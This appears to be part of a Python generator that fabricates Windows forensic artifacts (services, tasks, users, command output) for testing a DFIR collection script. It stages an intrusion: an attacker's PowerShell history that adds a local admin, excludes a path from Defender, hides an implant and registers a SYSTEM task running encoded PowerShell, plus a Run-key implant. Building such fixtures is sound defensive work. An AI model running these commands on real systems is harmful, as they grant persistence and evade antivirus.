DNS_SECTION = {1: "Answer", 2: "Authority", 3: "Additional"}


def startup_commands(scn: Scenario) -> list[dict]:
    """Win32_StartupCommand | Select Name, command, Location, User (§6.4)."""
    home = f"C:\\Users\\{scn.user}"
    run = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
    return [
        {"Name": "OneDrive", "Command": f'"{home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
         "Location": f"HKU\\{scn.user_sid}\\{run}", "User": scn.user_account},
        {"Name": "Send to OneNote", "Command": "Send to OneNote.lnk", "Location": "Startup", "User": scn.user_account},
        {"Name": "SecurityHealth", "Command": r"%windir%\system32\SecurityHealthSystray.exe",
         "Location": f"HKLM\\{run}", "User": "Public"},
        {"Name": "RtkAudUService", "Command": r'"C:\WINDOWS\System32\DriverStore\FileRepository\realtekservice.inf_amd64_'
         r'3fcb5d1c7a1e2e84\RtkAudUService64.exe" -background', "Location": f"HKLM\\{run}", "User": "Public"},
        *({"Name": n, "Command": c, "Location": r"HKLM\SOFTWARE\Wow6432Node\Microsoft\Windows\CurrentVersion\Run",
           "User": "Public"} for n, c in _run_values(scn)),
    ]


def _run_values(scn: Scenario) -> list[tuple[str, str]]:
    return [("SunJavaUpdateSched", r'"C:\Program Files (x86)\Common Files\Java\Java Update\jusched.exe"'),
            (RUN_VALUE_NAME, f'"C:\\Users\\{scn.user}\\AppData\\Local\\Temp\\{TEMP_IMPLANT_NAME}" /silent')]


def _runonce_values(scn: Scenario) -> list[tuple[str, str]]:
    return [(RUNONCE_VALUE_NAME, r'C:\Windows\System32\cmd.exe /q /c del /q "C:\Program Files (x86)\Microsoft'
             r'\EdgeUpdate\Install\{5F2A4E0B-7C3D-4B8E-9A61-2D0C8E1F3B47}\MicrosoftEdge_X64_140.0.3485.94.exe"')]


def registry_item(values: list[tuple[str, object]], key: str) -> dict:
    """Get-ItemProperty object: the values, then the five PS* note properties (§6.5)."""
    parent, child = key.rsplit("\\", 1)
    return {**dict(values),
            "PSPath": f"Microsoft.PowerShell.Core\\Registry::HKEY_LOCAL_MACHINE\\{key}",
            "PSParentPath": f"Microsoft.PowerShell.Core\\Registry::HKEY_LOCAL_MACHINE\\{parent}",
            "PSChildName": child, "PSDrive": "HKLM", "PSProvider": "Microsoft.PowerShell.Core\\Registry"}


DRIVERS = [  # module, display name (driverquery truncates to 22), type, link date
    ("1394ohci", "1394 OHCI Compliant Host Controller", "Kernel", None),
    ("3ware", "3ware", "Kernel", dt.datetime(2015, 5, 18, 18, 28, 3)),
    ("ACPI", "Microsoft ACPI Driver", "Kernel", None),
    ("AcpiDev", "ACPI Devices driver", "Kernel", None),
    ("acpiex", "Microsoft ACPIEx Driver", "Kernel", None),
    ("AFD", "Ancillary Function Driver for Winsock", "Kernel", None),
    ("amdsata", "amdsata", "Kernel", dt.datetime(2015, 5, 14, 21, 14, 52)),
    ("bam", "Background Activity Moderator Driver", "Kernel", None),
    ("BasicDisplay", "BasicDisplay", "Kernel", None),
    ("Beep", "Beep", "Kernel", None),
    ("bindflt", "Windows Bind Filter Driver", "File System", None),
    ("bowser", "Browser", "File System", None),
    ("CLFS", "Common Log (CLFS)", "Kernel", None),
    ("CompositeBus", "Composite Bus Enumerator Driver", "Kernel", None),
    ("disk", "Disk Driver", "Kernel", None),
    ("e1dexpress", "Intel(R) Ethernet Connection (7) I219-LM", "Kernel", dt.datetime(2022, 7, 26, 16, 41, 18)),
    ("FileCrypt", "FileCrypt", "File System", None),
    ("iaStorAVC", "Intel Chipset SATA RAID Controller", "Kernel", dt.datetime(2020, 4, 16, 2, 33, 50)),
    ("HDAudBus", "Microsoft UAA Bus Driver for High Definition Audio", "Kernel", None),
    ("kbdclass", "Keyboard Class Driver", "Kernel", None),
    ("MpKslDrv", "MpKslDrv", "Kernel", None),
    ("mrxsmb", "SMB MiniRedirector Wrapper and Engine", "File System", None),
    ("Ntfs", "Ntfs", "File System", None),
    ("Null", "Null", "Kernel", None),
    ("nvlddmkm", "nvlddmkm", "Kernel", dt.datetime(2022, 10, 13, 23, 17, 6)),
    ("RTKVHD64", "Realtek High Definition Audio", "Kernel", dt.datetime(2021, 11, 23, 9, 2, 55)),
    ("Tcpip", "TCP/IP Protocol Driver", "Kernel", None),
    ("usbccgp", "Microsoft USB Generic Parent Driver", "Kernel", None),
    ("USBSTOR", "USB Mass Storage Driver", "Kernel", None),
    ("WdFilter", "Microsoft Defender Antivirus Mini-Filter Driver", "File System", None),
    ("WdNisDrv", "Microsoft Defender Antivirus Network Inspection System Driver", "Kernel", None),
    ("Wof", "Windows Overlay File System Filter Driver", "File System", None),
]


def local_users(scn: Scenario) -> list[dict]:
    """Get-LocalUser (§6.6).  Password expiry is disabled by policy (no future dates)."""
    t = scn.t

    def user(name, rid, desc, enabled, full="", pls=None, last=None, may_change=True, required=True):
        return {"AccountExpires": None, "Description": desc, "Enabled": enabled, "FullName": full,
                "PasswordChangeableDate": pls, "PasswordExpires": None, "UserMayChangePassword": may_change,
                "PasswordRequired": required, "PasswordLastSet": pls, "LastLogon": last, "Name": name,
                "SID": scn.sid(rid), "PrincipalSource": "Local", "ObjectClass": "User"}
    users = [
        user("Administrator", 500, "Built-in account for administering the computer/domain", False),
        user("DefaultAccount", 503, "A user account managed by the system.", False, required=False),
        user("Guest", 501, "Built-in account for guest access to the computer/domain", False, may_change=False,
             required=False),
        user(BRUTE_USER, 1002, "IT helpdesk local admin", True, "Helpdesk", t["helpdesk_created"], t["rdp_logon"]),
        user(NEW_ADMIN, 1003, "", True, "", t["user_created"], None),
        user("WDAGUtilityAccount", 504, "A user account managed and used by the system for Windows Defender "
             "Application Guard scenarios.", False, pls=t["os_install"] + dt.timedelta(minutes=3, seconds=12)),
    ]
    if not scn.entra:
        users.append(user(scn.user, 1001, "", True, scn.user_full, t["os_install"] + dt.timedelta(minutes=9),
                          t["user_logon"]))
    return sorted(users, key=lambda u: u["Name"].lower())


def security_events_newest_first(scn: Scenario) -> list[dict]:
    return list(reversed(scn.events))


def msi_events(scn: Scenario) -> list[dict]:
    """Get-WinEvent -ProviderName msiinstaller | ? id -eq 1033 | select timecreated,message (§6.15)."""
    old = scn.date.year <= 2023
    items = [
        (day_gt12_before(scn.date, 18), "10:02:11", "7-Zip 22.01 (x64 edition)" if old else "7-Zip 25.01 (x64 edition)",
         "22.01.00.0" if old else "25.01.00.0", "Igor Pavlov"),
        (day_gt12_before(scn.date, 13), "09:41:05", "Google Chrome", era(scn)["chrome"],
         "Google LLC"),
        (day_gt12_before(scn.date, 9), "15:30:42", "Microsoft Visual C++ 2022 X64 Minimum Runtime - "
         + ("14.34.31938" if old else "14.44.35211"), "14.34.31938" if old else "14.44.35211", "Microsoft Corporation"),
        (day_gt12_before(scn.date, 3), "11:08:27", "Zoom Workplace (64-bit)",
         "5.13.5.12053" if old else "6.5.11.1234", "Zoom Video Communications, Inc."),
    ]
    out = []
    for day, hhmmss, product, version, vendor in items:
        when = dt.datetime.combine(day, dt.time(*(int(x) for x in hhmmss.split(":"))))
        msg = (f"Windows Installer installed the product. Product Name: {product}. Product Version: {version}. "
               f"Product Language: 1033. Manufacturer: {vendor}. Installation success or error status: 0.")
        out.append({"TimeCreated": when, "Message": msg})
    return sorted(out, key=lambda e: e["TimeCreated"], reverse=True)      # Get-WinEvent: newest first


SERVICES = [  # name, display, type, start, depends on, dependents, can pause, can shutdown, can stop
    ("AudioEndpointBuilder", "Windows Audio Endpoint Builder", "Win32OwnProcess", "Automatic", [], ["Audiosrv"], 0, 0, 1),
    ("Audiosrv", "Windows Audio", "Win32OwnProcess", "Automatic", ["AudioEndpointBuilder", "RpcSs"], [], 0, 0, 1),
    ("BFE", "Base Filtering Engine", "Win32ShareProcess", "Automatic", ["RpcSs"],
     ["WdNisSvc", "mpssvc", "IKEEXT", "SharedAccess", "PolicyAgent"], 0, 0, 1),
    ("BrokerInfrastructure", "Background Tasks Infrastructure Service", "Win32ShareProcess", "Automatic",
     ["RpcEptMapper", "DcomLaunch", "RpcSs"], ["WSearch", "embeddedmode"], 0, 0, 0),
    ("CryptSvc", "Cryptographic Services", "Win32OwnProcess", "Automatic", ["RpcSs"], [], 0, 1, 1),
    ("DcomLaunch", "DCOM Server Process Launcher", "Win32ShareProcess", "Automatic", [],
     ["WSearch", "wuauserv", "Winmgmt", "Schedule", "RpcSs", "BrokerInfrastructure"], 0, 0, 0),
    ("Dhcp", "DHCP Client", "Win32OwnProcess", "Automatic", ["NSI", "Afd", "Tdx"], ["WinHttpAutoProxySvc"], 0, 1, 1),
    ("Dnscache", "DNS Client", "Win32OwnProcess", "Automatic", ["nsi", "Tdx"], [], 0, 0, 0),
    ("EventLog", "Windows Event Log", "Win32OwnProcess", "Automatic", [], ["Wecsvc", "NcdAutoSetup"], 0, 1, 1),
    ("LanmanServer", "Server", "Win32ShareProcess", "Automatic", ["SamSS", "Srv2"], [], 1, 0, 1),
    ("LanmanWorkstation", "Workstation", "Win32OwnProcess", "Automatic", ["Bowser", "MRxSmb20", "NSI"],
     ["SessionEnv", "Netlogon"], 1, 0, 1),
    ("mpssvc", "Windows Defender Firewall", "Win32OwnProcess", "Automatic", ["mpsdrv", "BFE"], [], 0, 0, 0),
    ("RpcEptMapper", "RPC Endpoint Mapper", "Win32OwnProcess", "Automatic", [], ["RpcSs"], 0, 0, 0),
    ("RpcSs", "Remote Procedure Call (RPC)", "Win32OwnProcess", "Automatic", ["RpcEptMapper", "DcomLaunch"],
     ["XblGameSave", "XblAuthManager", "wuauserv", "WSearch", "Winmgmt", "TermService", "Spooler"], 0, 0, 0),
    ("Schedule", "Task Scheduler", "Win32ShareProcess", "Automatic", ["RPCSS", "SystemEventsBroker"], [], 0, 0, 0),
    ("SecurityHealthService", "Windows Security Service", "Win32OwnProcess", "Manual", [], [], 0, 0, 0),
    ("SENS", "System Event Notification Service", "Win32OwnProcess", "Automatic", ["EventSystem"], [], 0, 1, 1),
    ("SessionEnv", "Remote Desktop Configuration", "Win32ShareProcess", "Manual", ["RPCSS", "LanmanWorkstation"],
     [], 0, 0, 1),
    ("Spooler", "Print Spooler", "Win32OwnProcess, InteractiveProcess", "Automatic", ["RPCSS", "http"], [], 0, 0, 1),
    ("TermService", "Remote Desktop Services", "Win32OwnProcess", "Manual", ["RPCSS"], ["UmRdpService"], 0, 0, 1),
    ("UmRdpService", "Remote Desktop Services UserMode Port Redirector", "Win32ShareProcess", "Manual",
     ["TermService", "RDPDR"], [], 0, 0, 1),
    ("WinDefend", "Microsoft Defender Antivirus Service", "Win32OwnProcess", "Automatic", ["RpcSs"], [], 0, 0, 0),
    ("Winmgmt", "Windows Management Instrumentation", "Win32OwnProcess", "Automatic", ["RPCSS"], [], 1, 1, 1),
    ("WSearch", "Windows Search", "Win32OwnProcess", "Automatic", ["RPCSS", "BrokerInfrastructure"], [], 0, 0, 1),
    ("wuauserv", "Windows Update", "Win32OwnProcess", "Manual", ["rpcss"], [], 0, 1, 1),
]
SVC_ARRAY = "System.ServiceProcess.ServiceController[]"


def running_services(scn: Scenario) -> list[dict]:
    """Get-Service | ? Status -eq Running (§6.16)."""
    out = []
    for name, disp, styp, start, dep_on, dependents, pause, shut, stop in SERVICES:
        out.append({"Name": name, "RequiredServices": Arr(dep_on, SVC_ARRAY), "CanPauseAndContinue": bool(pause),
                    "CanShutdown": bool(shut), "CanStop": bool(stop), "DisplayName": disp,
                    "DependentServices": Arr(dependents, SVC_ARRAY), "MachineName": ".", "ServiceName": name,
                    "ServicesDependedOn": Arr(dep_on, SVC_ARRAY), "ServiceHandle": "SafeServiceHandle",
                    "Status": "Running", "ServiceType": styp, "StartType": start, "Site": None, "Container": None})
    return sorted(out, key=lambda s: s["Name"].lower())


NEVER_RAN = dt.datetime(1999, 11, 30)


def scheduled_tasks(scn: Scenario) -> list[tuple[dict, dict]]:
    """(Get-ScheduledTask object, Get-ScheduledTaskInfo object) pairs, State -ne Disabled (§6.17, §6.18).
    Only tasks without time triggers, so NextRunTime is empty and no date lies after the collection."""
    t, rng = scn.t, scn.rng("tasks")
    ms = "Microsoft Corporation"
    tasks = [  # path, name, state, author, date, description, source, triggers, last run, result
        ("\\Microsoft\\Windows\\Application Experience\\", "StartupAppTask", "Ready", ms, None,
         "Scans startup entries and raises notification to the user if there are too many startup entries.", ms,
         [], "recent", 0),
        ("\\Microsoft\\Windows\\CertificateServicesClient\\", "UserTask", "Ready", ms, None,
         "Certificate Services Client task auto-enrolls and manages certificates for the user.", ms,
         ["MSFT_TaskLogonTrigger"], "logon", 0),
        ("\\Microsoft\\Windows\\Defrag\\", "ScheduledDefrag", "Ready", ms, None,
         "This task optimizes local storage drives.", ms, [], "recent", 0),
        ("\\Microsoft\\Windows\\Maintenance\\", "WinSAT", "Ready", ms, None,
         "Measures a system's performance and capabilities", ms, [], "never", 267011),
        ("\\Microsoft\\Windows\\Plug and Play\\", "Device Install Group Policy", "Ready", ms, None,
         "Device Installation Group Policy Change Handler", ms, ["MSFT_TaskTrigger"], "never", 267011),
        ("\\Microsoft\\Windows\\SoftwareProtectionPlatform\\", "SvcRestartTaskLogon", "Ready", ms, None,
         "This task restarts the Software Protection Platform service when users log on", ms,
         ["MSFT_TaskLogonTrigger"], "logon", 1073807364),
        ("\\Microsoft\\Windows\\TextServicesFramework\\", "MsCtfMonitor", "Running", ms, None,
         "TextServicesFramework monitor task", ms, ["MSFT_TaskLogonTrigger"], "logon", 267009),
        (TASK_PATH, TASK_NAME, "Running", f"{scn.host}\\{BRUTE_USER}",
         t["task_registered"].strftime("%Y-%m-%dT%H:%M:%S"), ENC_COMMAND, None, ["MSFT_TaskBootTrigger"],
         "task", 267009),
        ("\\Microsoft\\Windows\\Wininet\\", "CacheTask", "Running", "$(@%systemroot%\\system32\\wininet.dll,-16004)",
         None, "$(@%systemroot%\\system32\\wininet.dll,-16003)", None, ["MSFT_TaskLogonTrigger"], "logon", 267009),
        ("\\Microsoft\\Windows\\Windows Defender\\", "Windows Defender Cache Maintenance", "Ready", None, None,
         "Periodic maintenance task.", None, [], "recent", 0),
        ("\\Microsoft\\Windows\\Windows Defender\\", "Windows Defender Scheduled Scan", "Ready", None, None,
         "Periodic scan task.", None, [], "recent", 0),
        ("\\Microsoft\\Windows\\Workplace Join\\", "Automatic-Device-Join", "Ready", ms, None,
         "Register this computer if the computer is already joined to an Active Directory domain.", ms,
         ["MSFT_TaskLogonTrigger", "MSFT_TaskEventTrigger"], "logon", 0),
    ]
    out = []
    for path, name, state, author, date, desc, source, triggers, last, result in tasks:
        if last == "never":
            last_run = NEVER_RAN
        elif last == "logon":
            last_run = t["user_logon"] + dt.timedelta(seconds=rng.randint(2, 40))
        elif last == "task":
            last_run = t["task_started"]
        else:
            last_run = day_gt12_before(scn.date, rng.randint(1, 6))
            last_run = dt.datetime.combine(last_run, dt.time(rng.randint(0, 5), rng.randint(0, 59), rng.randint(0, 59)))
        task = {"State": state, "Actions": Arr(["MSFT_TaskExecAction"], "Microsoft.Management.Infrastructure.CimInstance[]"),
                "Author": author, "Date": date, "Description": desc, "Documentation": None,
                "Principal": "MSFT_TaskPrincipal2",
                "SecurityDescriptor": None if source is None or "Wininet" in path else "D:(A;;FA;;;BA)(A;;FA;;;SY)(A;;FRFX;;;WD)",
                "Settings": "MSFT_TaskSettings3", "Source": source, "TaskName": name, "TaskPath": path,
                "Triggers": Arr(triggers, "Microsoft.Management.Infrastructure.CimInstance[]") if triggers else None,
                "URI": path + name, "Version": "1.0" if source else None,
                **_cim_tail("Root/Microsoft/Windows/TaskScheduler:MSFT_ScheduledTask")}
        info = {"LastRunTime": last_run, "LastTaskResult": result, "NextRunTime": None, "NumberOfMissedRuns": 0,
                "TaskName": name, "TaskPath": path,
                **_cim_tail("Root/Microsoft/Windows/TaskScheduler:MSFT_TaskDynamicInfo")}
        out.append((task, info))
    return out


def pnp_devices(scn: Scenario) -> list[dict]:
    """Get-PnpDevice (§6.19)."""
    ok, phantom = "CM_PROB_NONE", "CM_PROB_PHANTOM"
    first = scn.user_full.split()[0]
    devices = [  # class, friendly name, instance id, problem, status, manufacturer, service, class guid, hwid
        ("Keyboard", "HID Keyboard Device", r"HID\VID_046D&PID_C31C&MI_00\7&1A2B3C4D&0&0000", ok, "OK",
         "(Standard keyboards)", "kbdhid", "{4d36e96b-e325-11ce-bfc1-08002be10318}", r"HID\VID_046D&PID_C31C&REV_6400&MI_00"),
        ("Mouse", "HID-compliant mouse", r"HID\VID_046D&PID_C077\7&2C3D4E5F&0&0000", ok, "OK", "Microsoft",
         "mouhid", "{4d36e96f-e325-11ce-bfc1-08002be10318}", r"HID\VID_046D&PID_C077&REV_7200"),
        ("DiskDrive", "Samsung SSD 980 PRO 1TB", r"SCSI\DISK&VEN_NVME&PROD_SAMSUNG_SSD_980\5&1E4B8A2C&0&000000", ok,
         "OK", "(Standard disk drives)", "disk", "{4d36e967-e325-11ce-bfc1-08002be10318}", r"SCSI\DiskNVMe____Samsung_SSD_980_1TB"),
        ("DiskDrive", "SanDisk Ultra Fit USB Device", r"USBSTOR\DISK&VEN_SANDISK&PROD_ULTRA_FIT&REV_1.00\4C530001230718113302&0",
         phantom, "Unknown", "(Standard disk drives)", "disk", "{4d36e967-e325-11ce-bfc1-08002be10318}",
         r"USBSTOR\DiskSanDisk_Ultra_Fit_______1.00"),
        ("USB", "USB Mass Storage Device", r"USB\VID_0781&PID_5583\4C530001230718113302", phantom, "Unknown",
         "Compatible USB storage device", "USBSTOR", "{36fc9e60-c465-11cf-8056-444553540000}", r"USB\VID_0781&PID_5583&REV_0100"),
        ("USB", "USB Root Hub (USB 3.0)", r"USB\ROOT_HUB30\4&2F1C3B9&0&0", ok, "OK", "(Standard USB HUBs)",
         "USBHUB3", "{36fc9e60-c465-11cf-8056-444553540000}", r"USB\ROOT_HUB30&VID8086&PID9DED&REV0030"),
        ("Net", "Intel(R) Ethernet Connection (7) I219-LM", r"PCI\VEN_8086&DEV_15BB&SUBSYS_08671028&REV_10\3&11583659&0&FE",
         ok, "OK", "Intel", "e1dexpress", "{4d36e972-e325-11ce-bfc1-08002be10318}", r"PCI\VEN_8086&DEV_15BB&SUBSYS_08671028&REV_10"),
        ("Monitor", "Generic PnP Monitor", r"DISPLAY\DELA0F4\5&2B3E1A9C&0&UID4352", ok, "OK", "(Standard monitor types)",
         "monitor", "{4d36e96e-e325-11ce-bfc1-08002be10318}", r"MONITOR\DELA0F4"),
        ("Monitor", "Generic Non-PnP Monitor", r"DISPLAY\DEFAULT_MONITOR\4&427137E&0&UID0", phantom, "Unknown",
         "(Standard monitor types)", "monitor", "{4d36e96e-e325-11ce-bfc1-08002be10318}", r"MONITOR\Default_Monitor"),
        ("Processor", "Intel(R) Core(TM) i7-10610U CPU @ 1.80GHz", r"ACPI\GENUINEINTEL_-_INTEL64_FAMILY_6_MODEL_142_-_INTEL(R)_CORE(TM)_I7-10610U_CPU_@_1.80GHZ\_0",
         ok, "OK", "Intel", "intelppm", "{50127dc3-0f36-415e-a6cc-4cb3be910b65}", r"ACPI\GenuineIntel_-_Intel64_Family_6_Model_142"),
        ("AudioEndpoint", "Speakers (Realtek(R) Audio)", r"SWD\MMDEVAPI\{0.0.0.00000000}.{9A2B7C11-5E2D-4F3A-8B7C-2E1D0F3A4B5C}",
         ok, "OK", "Microsoft", None, "{c166523c-fe0c-4a94-a586-f1a80cfbbf3e}", r"MMDEVAPI\AudioEndpoints"),
        ("Bluetooth", f"{first}\u2019s AirPods Pro", r"BTHENUM\DEV_A4C6F0B2D811\7&1F2E3D4C&0&BLUETOOTHDEVICE_A4C6F0B2D811",
         phantom, "Unknown", "Microsoft", None, "{e0cbf06c-cd8b-4647-bb8a-263b43f0f974}", r"BTHENUM\Dev_A4C6F0B2D811"),
        ("SoftwareDevice", "Microsoft Print to PDF", r"SWD\PRINTENUM\{1C3A9F2E-4B5D-4E6F-8A7B-9C0D1E2F3A4B}", ok, "OK",
         "Microsoft", None, "{62f9c741-b25a-46ce-b54c-9bccce08b6f2}", r"PRINTENUM\{084f01fa-e634-4d77-83ee-074817c03581}"),
    ]
    out = []
    for cls, name, iid, problem, status, mfr, svc, guid, hwid in devices:
        out.append({"Class": cls, "FriendlyName": name, "InstanceId": iid, "Problem": problem,
                    "ConfigManagerErrorCode": problem, "ProblemDescription": None, "Caption": name,
                    "Description": name, "InstallDate": None, "Name": name, "Status": status, "Availability": None,
                    "ConfigManagerUserConfig": False, "CreationClassName": "Win32_PnPEntity", "DeviceID": iid,
                    "ErrorCleared": None, "ErrorDescription": None, "LastErrorCode": None, "PNPDeviceID": iid,
                    "PowerManagementCapabilities": None, "PowerManagementSupported": None, "StatusInfo": None,
                    "SystemCreationClassName": "Win32_ComputerSystem", "SystemName": scn.host, "ClassGuid": guid,
                    "CompatibleID": Arr([hwid.split("&")[0]]), "HardwareID": Arr([hwid, hwid.split("&REV")[0]]),
                    "Manufacturer": mfr, "PNPClass": cls, "Present": problem == ok, "Service": svc,
                    **_cim_tail("ROOT/cimv2:Win32_PnPEntity")})
    return out


def smb_shares(scn: Scenario) -> list[dict]:
    """Get-SmbShare (§6.13, 5.1-style order)."""
    vol = "\\\\?\\Volume{" + fake_guid(scn.rng("volume")) + "}\\"
    rows = [("ADMIN$", "C:\\Windows", "Remote Admin", "FileSystemDirectory", vol, 0,
             "O:SYG:SYD:(A;;GA;;;BA)(A;;GA;;;BO)(A;;GA;;;IU)"),
            ("C$", "C:\\", "Default share", "FileSystemDirectory", vol, 0,
             "O:SYG:SYD:(A;;GA;;;BA)(A;;GA;;;BO)(A;;GA;;;IU)"),
            ("IPC$", "", "Remote IPC", "IPC", "", 1, "O:SYG:SYD:(A;;0x12019b;;;WD)")]
    out = []
    for name, path, desc, stype, volume, users, sd in rows:
        out.append({"PresetPathAcl": "System.Security.AccessControl.DirectorySecurity" if path else None,
                    "ShareState": "Online", "AvailabilityType": "NonClustered", "ShareType": stype,
                    "FolderEnumerationMode": "Unrestricted", "CachingMode": "Manual", "LeasingMode": "Full",
                    "SmbInstance": "Default", "CATimeout": 0, "ConcurrentUserLimit": 0, "ContinuouslyAvailable": False,
                    "CurrentUsers": users, "Description": desc, "EncryptData": False, "IdentityRemoting": False,
                    "Infrastructure": False, "Name": name, "Path": path, "Scoped": False, "ScopeName": "*",
                    "SecurityDescriptor": sd, "ShadowCopy": False, "Special": True, "Temporary": False,
                    "Volume": volume, **_cim_tail("ROOT/Microsoft/Windows/SMB:MSFT_SmbShare")})
    return out


def shadow_copies(scn: Scenario) -> list[dict]:
    """Get-CimInstance Win32_ShadowCopy (§6.2)."""
    rng = scn.rng("vss")
    vol = "\\\\?\\Volume{" + fake_guid(scn.rng("volume")) + "}\\"
    out = []
    for n, when in enumerate([scn.t["shadow_old"], scn.t["shadow_new"]], start=1):
        sid = "{" + fake_guid(rng, upper=True) + "}"
        out.append({"Caption": None, "Description": None, "InstallDate": when, "Name": None, "Status": None,
                    "ClientAccessible": True, "Count": 1,
                    "DeviceObject": f"\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{n}", "Differential": True,
                    "ExposedLocally": False, "ExposedName": None, "ExposedPath": None, "ExposedRemotely": False,
                    "HardwareAssisted": False, "ID": sid, "Imported": False, "NoAutoRelease": True,
                    "NotSurfaced": False, "NoWriters": False, "OriginatingMachine": scn.host, "Persistent": True,
                    "Plex": False, "ProviderID": "{B5946137-7B9F-4925-AF80-51ABD60B20D5}",
                    "ServiceMachine": scn.host, "SetID": "{" + fake_guid(rng, upper=True) + "}", "State": 12,
                    "Transportable": False, "VolumeName": vol, **_cim_tail("root/cimv2:Win32_ShadowCopy")})
    return out


def defender_exclusions(scn: Scenario) -> dict[str, list[str]]:
    return {"ExclusionPath": [r"C:\ProgramData\Veeam", DEFENDER_EXCLUSION], "ExclusionExtension": [],
            "ExclusionIpAddress": [], "ExclusionProcess": []}


def mount_points(scn: Scenario) -> list[tuple[str, list[tuple[str, str]], int]]:
    """HKCU MountPoints2 sub-keys: (name, values, sub-key count)."""
    vol = "{" + fake_guid(scn.rng("mountpoint")) + "}"
    return [("##fileserver01#Finance", [("_LabelFromReg", "Finance"), ("BaseClass", "Drive")], 0),
            (vol, [("BaseClass", "Drive")], 1)]


def ps_histories(scn: Scenario) -> dict[str, list[str]]:
    """PSReadLine history items per user folder (multi-line items contain '\\n')."""
    hist = {BRUTE_USER: [
        "whoami /all",
        "net localgroup administrators",
        "Get-MpComputerStatus | Select-Object AMRunningMode, RealTimeProtectionEnabled",
        IWR_DOWNLOAD,
        f"net user {NEW_ADMIN} Winter2025!x /add",
        f"net localgroup administrators {NEW_ADMIN} /add",
        f"Add-MpPreference -ExclusionPath {DEFENDER_EXCLUSION}",
        IWR_DOWNLOAD,
        f"Start-Process {IMPLANT_PATH} -WindowStyle Hidden",
        IWR_CRADLE,
        f"$a = New-ScheduledTaskAction -Execute powershell.exe -Argument '-NoProfile -WindowStyle Hidden -enc {ENC_B64}'",
        f"Register-ScheduledTask -TaskName {TASK_NAME} -TaskPath '{TASK_PATH}' -Action $a -Trigger "
        f"(New-ScheduledTaskTrigger -AtStartup) -User SYSTEM -RunLevel Highest -Description '{ENC_COMMAND}'",
        f"Start-ScheduledTask -TaskPath '{TASK_PATH}' -TaskName {TASK_NAME}",
        "Get-ChildItem C:\\Users -Directory | ForEach-Object {\n"
        "    Get-ChildItem \"$($_.FullName)\\Documents\" -Recurse -Include *.docx,*.xlsx,*.pdf -ErrorAction SilentlyContinue |\n"
        "        Select-Object FullName, Length\n}",
        "exit",
    ]}
    hist[scn.user] = [
        "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10",
        f"Get-Content \"C:\\Users\\{scn.user}\\Documents\\Café menu.txt\"",
        "winget upgrade --all",
    ]
    if scn.context == "user":     # PSReadLine saves each line at once: the DFIR run itself is already in
        hist[scn.user] += ["cd C:\\Tools", "powershell.exe -ExecutionPolicy Bypass .\\DFIR-Script.ps1"]
    return hist


def psreadline_bytes(items: Sequence[str]) -> bytes:
    """PSReadLine: UTF-8 without BOM, WriteLine (CRLF), embedded "\\n" -> "`\\n" (§9.3)."""
    return "".join(item.replace("\n", "`\n") + CRLF for item in items).encode("utf-8")


# =============================================================================
# 5. Renderers: one method per DFIR-Script function
# =============================================================================

def driverquery_lines(scn: Scenario) -> list[str]:
    """driverquery (§7.1): fixed columns 12/22/13/22, one space apart, first line empty."""
    out = ["", "Module Name  Display Name           Driver Type   Link Date",
           "============ ====================== ============= ======================"]
    for mod, disp, typ, date in sorted(DRIVERS, key=lambda d: d[0].lower()):
        when = scn.culture.g(date) if date and date < scn.collect else ""
        out.append(f"{mod[:12]:<12} {disp[:22]:<22} {typ:<13} {when}".rstrip())
    return out


def quser_lines(scn: Scenario) -> list[str]:
    """query user /server: (§7.2): '>' marks the caller's session."""
    def row(marker, user, sess, sid, state, idle, logon):
        return (marker + user.ljust(22) + sess.ljust(17) + str(sid).rjust(4) + "  " + state.ljust(8)
                + idle.rjust(9) + "  " + logon)
    t = scn.t
    idle = scn.collect - t["rdp_disconnect"]
    hours, minutes = divmod(int(idle.total_seconds()) // 60, 60)
    idle_text = f"{hours // 24}+{hours % 24:02d}:{minutes:02d}" if hours >= 24 else f"{hours}:{minutes:02d}"
    mine = ">" if scn.context == "user" else " "
    console_idle = "none" if scn.context == "user" else "1:12"
    return [row(" ", "USERNAME", "SESSIONNAME", "ID", "STATE", "IDLE TIME", "LOGON TIME"),
            row(mine, scn.user, "console", 1, "Active", console_idle, scn.culture.short_dt(t["user_logon"])),
            row(" ", BRUTE_USER, "", 2, "Disc", idle_text, scn.culture.short_dt(t["rdp_logon"]))]


def qwinsta_lines(scn: Scenario) -> list[str]:
    """qwinsta /server:localhost (§7.3): rows padded to the header width."""
    def row(marker, sess, user, sid, state, typ="", dev=""):
        return marker + sess.ljust(18) + user.ljust(22) + str(sid).rjust(5) + "  " + state.ljust(8) + typ.ljust(12) + dev
    header = row(" ", "SESSIONNAME", "USERNAME", "ID", "STATE", "TYPE", "DEVICE") + " "
    me_console, me_services = (">", " ") if scn.context == "user" else (" ", ">")
    rows = [row(me_services, "services", "", 0, "Disc"), row(me_console, "console", scn.user, 1, "Active"),
            row(" ", "", BRUTE_USER, 2, "Disc"), row(" ", "rdp-tcp", "", 65536, "Listen")]
    return [header] + [r.ljust(len(header)) for r in rows]


OPENFILES_PREAMBLE = ["", "INFO: The system global flag 'maintain objects list' needs",
                      "      to be enabled to see local opened files.", "      See Openfiles /? for more information.",
                      "", "", "Files opened remotely via local share points:",
                      "---------------------------------------------", ""]


def openfiles_lines(scn: Scenario) -> list[str]:
    """openfiles (§7.4): the brute-forced account has payroll files open over the ADMIN$/C$ shares.

    The 10-digit ID is wider than its 8-character column and touches the user name, as the tool prints it.
    """
    opens = [("1342178305", BRUTE_USER, "Windows", r"C:\Shares\Finance\Q3-payroll.xlsx"),
             ("1342178311", BRUTE_USER, "Windows", r"C:\Shares\Finance\vendor  bank details.docx"),
             ("8", "svc_backup", "Windows", "C:\\Windows\\Temp\\")]
    table = ["ID       Accessed By          Type       Open File (Path\\executable)",
             "======== ==================== ========== ====================================="]
    table += [f"{i:<8} {user:<20} {kind:<10} {path}" for i, user, kind, path in opens]
    return OPENFILES_PREAMBLE + table


def ipconfig_lines(scn: Scenario) -> list[str]:
    """ipconfig /all as written through a child powershell.exe (§8.3)."""
    t = scn.t

    def kv(label: str, value: str) -> str:
        return "   " + (label + " " + ". " * 20)[:33].ljust(33) + " : " + value
    iaid = int(t["mac"].replace("-", "")[-6:], 16) + 100663296
    return ["", "Windows IP Configuration", "",
            kv("Host Name", scn.host), kv("Primary Dns Suffix ", ""), kv("Node Type", "Hybrid"),
